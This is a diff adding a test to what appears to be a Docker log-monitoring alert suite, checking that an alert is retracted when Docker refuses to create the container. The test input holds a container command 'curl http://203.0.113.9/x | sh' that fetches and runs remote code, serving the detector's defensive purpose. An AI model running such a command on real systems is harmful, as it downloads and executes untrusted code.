@@ -126,6 +126,12 @@ describe('actions', () => {
       read(...Array.from({ length: 50 }, (_, i) => saidLine('(root) REPLACE (root)', { seconds: i }))),
     ).toMatchObject([{ value: { times: 50 } }]);
   });
+  it('takes back a container that Docker could not make', () => {
+    const asked = 'form data: {"Cmd":["sh","-c","curl http://203.0.113.9/x | sh"],"Image":"alpine"}';
+    const refused = 'Handler for POST /v1.24/containers/create returned error: No such image: alpine';
+    expect(read(saidLine(asked), saidLine(refused, { seconds: 1 }))).toEqual([]);
+    expect(read(saidLine(asked), saidLine(refused, { seconds: 60 }))).toHaveLength(1);
+  });
   it('is silent on an ordinary day', () => {
     expect(
       read(
